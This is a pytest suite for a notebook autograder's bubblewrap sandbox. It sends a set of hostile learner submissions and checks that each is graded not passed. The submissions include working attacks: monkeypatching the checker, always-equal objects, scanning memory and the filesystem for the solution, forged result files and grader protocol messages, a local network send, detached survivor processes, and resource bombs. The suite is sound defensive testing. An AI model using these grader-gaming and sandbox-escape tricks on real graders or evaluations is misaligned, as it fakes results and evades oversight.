"""Hostile learners against ``pylearn grade``, in the real bubblewrap sandbox.

Each learner below returns a notebook whose exercise cell holds a wrong answer plus an
attack on the grader. One grading run grades them all, beside honest learners. Every
attack must be graded "not passed"; nothing may reach the TCP listener the test opens;
no process may survive the run; the report files must stay exactly as the grader wrote
them; the instructor's files and the other learners' notebooks must stay unread and
unchanged.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

DATA = Path(__file__).resolve().parents[1] / "data"
EXERCISE = "sample.reverse-words"
MARK = "31.4159"  # survivors run `sleep 31.4159`, so that the test can look for them
WRONG = "def reverse_words(text):\n    return text\n"
RIGHT = "def reverse_words(text):\n    return ' '.join(reversed(text.split()))\n"

ATTACKS: dict[str, str] = {
    # --- patching the checker from inside ---------------------------------------------
    "patch-compare": WRONG + """
import pylearn_jupyter.checker.diff as diff, pylearn_jupyter.checker.testing as testing
diff.values_equal = lambda *a, **k: True
testing.assert_equal = lambda *a, **k: None
""",
    "patch-run-one-test": WRONG + """
import pylearn_jupyter.checker.runner as runner
from pylearn_jupyter.checker.result import TestOutcome
runner.run_one_test = lambda name, *a, **k: TestOutcome(name=name, passed=True)
runner.verdict = lambda tests: "passed"
""",
    "patch-to-dict": WRONG + """
from pylearn_jupyter.checker.result import CheckResult
CheckResult.passed = property(lambda self: True)
CheckResult.to_dict = lambda self: {"exercise_id": self.exercise_id, "status": "passed"}
""",
    "patch-sys-modules": WRONG + """
import sys, types
for name in list(sys.modules):
    if name.startswith("pylearn_jupyter"):
        fake = types.ModuleType(name)
        fake.__getattr__ = lambda attr: (lambda *a, **k: True)
        sys.modules[name] = fake
""",
    # --- looking for the solution or the tests -------------------------------------------
    "scan-files": WRONG + """
import os
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/dev")):
        continue
    for name in files:
        try:
            with open(os.path.join(root, name), "rb") as handle:
                data = handle.read(2_000_000)
        except OSError:
            continue
        if b"reversed(text.split())" in data or b"test_extra_spaces" in data:
            print("FOUND", os.path.join(root, name))
""",
    "frame-walk": """
import sys
def reverse_words(text):
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            if "world hello" in repr(value) or "test_extra_spaces" in repr(value):
                print("FOUND in a frame")
        frame = frame.f_back
    return text
""",
    "gc-scan": """
import gc
def reverse_words(text):
    for obj in gc.get_objects():
        try:
            if isinstance(obj, str) and ("reversed(text.split())" in obj
                                         or "test_extra_spaces" in obj):
                print("FOUND in memory")
        except Exception:
            pass
    return text
""",
    "read-near-cwd": WRONG + """
import os, glob
for pattern in ("*", "../*", "../../*", "/tmp/*", os.path.expanduser("~/*"), "{SOURCE}",
                "{OTHER}", "{OUT}/*"):
    for path in glob.glob(pattern):
        try:
            print("FOUND", path, open(path).read(50))
        except OSError:
            pass
""",
    # --- forging results and escaping -------------------------------------------------------
    "result-file-then-kill": WRONG + """
import json, os, signal
for folder in (".", "/tmp", "..", "{OUT}"):
    try:
        with open(os.path.join(folder, "result.json"), "w") as handle:
            json.dump({"exercise_id": "sample.reverse-words", "status": "passed"}, handle)
    except OSError:
        pass
os.kill(os.getpid(), signal.SIGKILL)
""",
    "thread-rewrites": WRONG + """
import threading, time, os
def rewrite():
    while True:
        for path in ("result.json", "/tmp/result.json", "{OUT}/grades.csv"):
            try:
                open(path, "w").write("passed")
            except OSError:
                pass
        time.sleep(0.01)
threading.Thread(target=rewrite, daemon=False).start()
""",
    "write-outside-scratch": WRONG + """
for path in ("{OTHER}", "{SOURCE}", "{OUT}/grades.json", "/usr/lib/pwned", "/opt/pylearn/x",
             "{HOME}/pwned"):
    try:
        open(path, "w").write("pwned")
        print("WROTE", path)
    except OSError:
        pass
""",
    "network": WRONG + """
import socket
try:
    socket.create_connection(("127.0.0.1", {PORT}), timeout=2).sendall(b"stolen")
    print("CONNECTED")
except OSError:
    pass
""",
    "fork-burst": WRONG + """
import os
for _ in range(40):
    try:
        if os.fork() == 0:
            os.execv("/usr/bin/sleep", ["sleep", "{MARK}"])
    except OSError:
        break
""",
    "detached-survivor": WRONG + """
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(256):
            try:
                os.close(fd)
            except OSError:
                pass
        os.execv("/usr/bin/sleep", ["sleep", "{MARK}"])
    os._exit(0)
""",
    "survivor-rewrites-report": WRONG + """
import os, subprocess
subprocess.Popen(["/usr/bin/sh", "-c",
                  "sleep 1; echo ',passed' >> {OUT}/grades.csv; exec sleep {MARK}"],
                 start_new_session=True)
""",
    # --- always-equal values and protocol forgery ---------------------------------------------
    "always-equal": """
class Yes(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
def reverse_words(text):
    return Yes(text)
""",
    "forge-protocol": WRONG + """
import json, os, struct
def frame(message):
    data = json.dumps(message).encode()
    return struct.pack(">I", len(data)) + data
for fd in range(3, 20):
    for number in range(0, 30):
        try:
            os.write(fd, frame({"re": number, "value": True}))
        except OSError:
            break
""",
    # --- stopping Python at every stage ----------------------------------------------------------
    "exit-at-top": WRONG + "raise SystemExit(0)\n",
    "os-exit-at-top": WRONG + "import os\nos._exit(0)\n",
    "base-exception-at-top": WRONG + "class Out(BaseException): pass\nraise Out()\n",
    "exit-in-call": "def reverse_words(text):\n    raise SystemExit(0)\n",
    "os-exit-in-call": "import os\ndef reverse_words(text):\n    os._exit(0)\n",
    "keyboard-interrupt-in-call": "def reverse_words(text):\n    raise KeyboardInterrupt\n",
    "base-exception-in-call": """
class Out(BaseException):
    pass
def reverse_words(text):
    raise Out()
""",
    "exit-in-eq": """
import os
class Odd(str):
    def __eq__(self, other):
        os._exit(0)
def reverse_words(text):
    return Odd(text)
""",
    "exit-in-repr": """
class Odd:
    def __repr__(self):
        raise SystemExit(0)
def reverse_words(text):
    return Odd()
""",
    "exit-in-del": """
import os
class Odd:
    def __del__(self):
        os._exit(0)
def reverse_words(text):
    Odd()
    return text
""",
    "endless-loop": "def reverse_words(text):\n    while True:\n        pass\n",
    "endless-at-top": WRONG + "while True:\n    pass\n",
    "endless-builtin": "def reverse_words(text):\n    return sum(range(10**12))\n",
    "memory-bomb": "def reverse_words(text):\n    return 'x' * (8 * 1024**3)\n",
    "huge-answer": "def reverse_words(text):\n    return ['x' * 1000] * 100_000\n",
    "deep-answer": """
def reverse_words(text):
    value = []
    for _ in range(100_000):
        value = [value]
    return value
""",
}
HONEST = {"right": RIGHT, "wrong": WRONG}


def _notebook(code: str) -> dict:
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
         "source": f"%%exercise {EXERCISE}\n{code}"},
    ]}


def _survivors() -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                cmdline = (entry / "cmdline").read_bytes()
            except OSError:
                continue
            if MARK.encode() in cmdline and b"sh\x00-c" not in cmdline:
                found.append(int(entry.name))
    return found


def _digests(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.iterdir()) if p.is_file()}


class Listener:
    """A TCP listener on 127.0.0.1 that counts every connection it gets."""

    def __init__(self) -> None:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(16)
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self) -> None:
        while self.running:
            try:
                conn, _ = self.socket.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.running = False
        self.thread.join(5)
        self.socket.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacks")
    source = root / "course"
    source.mkdir()
    (source / "sample_chapter.ipynb").write_bytes((DATA / "sample_chapter.ipynb").read_bytes())
    returned, out, home = root / "returned", root / "grades", root / "home"
    returned.mkdir()
    home.mkdir()
    (home / "secret.txt").write_text("the instructor's own file")
    listener = Listener()
    places = {"{PORT}": str(listener.port), "{MARK}": MARK, "{OUT}": str(out),
              "{SOURCE}": str(source / "sample_chapter.ipynb"),
              "{OTHER}": str(returned / "right.ipynb"), "{HOME}": str(home)}
    for learner, code in {**ATTACKS, **HONEST}.items():
        for key, value in places.items():
            code = code.replace(key, value)
        (returned / f"{learner}.ipynb").write_text(json.dumps(_notebook(code)))
    before = {p.name: p.read_bytes() for p in (*returned.iterdir(), *source.iterdir())}
    started = time.monotonic()
    proc = subprocess.run(
        [sys.executable, "-m", "pylearn_jupyter.cli", "grade", str(source), str(returned),
         "--out", str(out), "--sandbox", "bwrap"],
        capture_output=True, text=True, timeout=600, env={**os.environ, "HOME": str(home)})
    written = _digests(out) if out.exists() else {}
    survivors_now = _survivors()
    time.sleep(2.5)  # what a survivor would do, it would have done by now
    listener.close()
    yield {
        "proc": proc, "out": out, "written": written, "after": _digests(out),
        "rows": {r["learner"]: r for r in
                 json.loads((out / "grades.json").read_text())["rows"]
                 if r["exercise_id"] == EXERCISE},
        "survivors": survivors_now + _survivors(), "connections": listener.connections,
        "files_before": before,
        "files_after": {p.name: p.read_bytes() for p in (*returned.iterdir(),
                                                         *source.iterdir())},
        "home": sorted(p.name for p in home.iterdir()), "seconds": time.monotonic() - started,
    }
    for pid in _survivors():
        os.kill(pid, 9)


def test_grading_finishes_and_reports(graded):
    assert graded["proc"].returncode == 0, graded["proc"].stderr
    assert "bwrap sandbox" in graded["proc"].stdout


@pytest.mark.parametrize("learner", sorted(ATTACKS))
def test_attack_is_graded_not_passed(graded, learner):
    row = graded["rows"][learner]
    assert row["status"] != "passed", row
    assert row["points"] < 1
    output = (row["result"] or {}).get("output", "")
    for word in ("FOUND", "WROTE", "CONNECTED"):
        assert word not in output, output


def test_a_self_inflicted_kill_is_an_error_not_a_time_limit(graded):
    row = graded["rows"]["result-file-then-kill"]
    assert row["status"] == "error"
    assert "signal SIGKILL" in row["note"]


def test_an_uncopyable_answer_is_explained(graded):
    message = graded["rows"]["deep-answer"]["result"]["tests"][0]["message"]
    assert message.startswith("your code gave back a value that cannot be checked")


def test_honest_right_answer_passes(graded):
    assert graded["rows"]["right"]["status"] == "passed"
    assert graded["rows"]["right"]["points"] == 1


def test_honest_wrong_answer_fails_with_the_usual_message(graded):
    row = graded["rows"]["wrong"]
    assert row["status"] == "failed" and row["tests_passed"] == 1 and row["tests_total"] == 4
    first = row["result"]["tests"][0]
    assert first["expected"] == "'world hello'" and first["actual"] == "'hello world'"
    assert "first difference" in (first["difference"] or "")


def test_nothing_reaches_the_network(graded):
    assert graded["connections"] == 0


def test_no_process_survives_grading(graded):
    assert graded["survivors"] == []


def test_report_files_stay_as_the_grader_wrote_them(graded):
    assert set(graded["written"]) == {"grades.csv", "gradebook.csv", "grades.json",
                                      "report.html"}
    assert graded["after"] == graded["written"]


def test_instructor_and_classmates_files_are_untouched(graded):
    assert graded["files_after"] == graded["files_before"]
    assert graded["home"] == ["secret.txt"]


@pytest.mark.parametrize("learner", ["endless-loop", "endless-builtin", "endless-at-top"])
def test_endless_answers_end_in_the_time_limit_with_every_test_counted(graded, learner):
    row = graded["rows"][learner]
    assert row["status"] == "time limit"
    assert row["tests_total"] == 4 and row["tests_passed"] == 0
    assert len(row["result"]["tests"]) == 4  # listed as not run, hidden one included
    assert "stopped after 2 seconds" in row["result"]["error"]["summary"]


PLANTER = WRONG + """
import ctypes, os, subprocess
for path in ("/tmp/left-behind", "/dev/shm/left-behind"):
    try:
        open(path, "w").write("from the planter")
        print("PLANTED", path)
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
segment = libc.shmget(0x5EC12E7, 4096, 0o1666)
if segment >= 0:
    print("PLANTED shm")
subprocess.Popen(["/usr/bin/sleep", "{MARK}"], start_new_session=True)
print("PLANTED process")
"""
SPY = WRONG + """
import ctypes, os
for path in ("/tmp/left-behind", "/dev/shm/left-behind"):
    if os.path.exists(path):
        print("FOUND", path)
for table in ("shm", "msg", "sem"):
    if len(open(f"/proc/sysvipc/{table}").read().splitlines()) > 1:
        print("FOUND", table)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            if b"{MARK}" in open(f"/proc/{pid}/cmdline", "rb").read():
                print("FOUND process", pid)
        except OSError:
            pass
"""


def test_a_learner_meets_nothing_of_the_learner_graded_before_in_the_same_sandbox(tmp_path):
    source = DATA / "sample_chapter.ipynb"
    returned = tmp_path / "returned"
    returned.mkdir()
    for learner, code in (("a-planter", PLANTER), ("b-spy", SPY)):
        (returned / f"{learner}.ipynb").write_text(
            json.dumps(_notebook(code.replace("{MARK}", MARK))))

    proc = subprocess.run(
        [sys.executable, "-m", "pylearn_jupyter.cli", "grade", str(source), str(returned),
         "--out", str(tmp_path / "out"), "--sandbox", "bwrap", "--jobs", "1"],
        capture_output=True, text=True, timeout=300)

    assert proc.returncode == 0, proc.stderr
    rows = {r["learner"]: r for r in
            json.loads((tmp_path / "out" / "grades.json").read_text())["rows"]
            if r["exercise_id"] == EXERCISE}
    planted = rows["a-planter"]["result"]["output"]
    for what in ("/tmp/left-behind", "shm", "process"):  # /dev/shm is not even writable
        assert f"PLANTED {what}" in planted, planted
    assert "FOUND" not in rows["b-spy"]["result"]["output"], rows["b-spy"]["result"]["output"]
    assert _survivors() == []
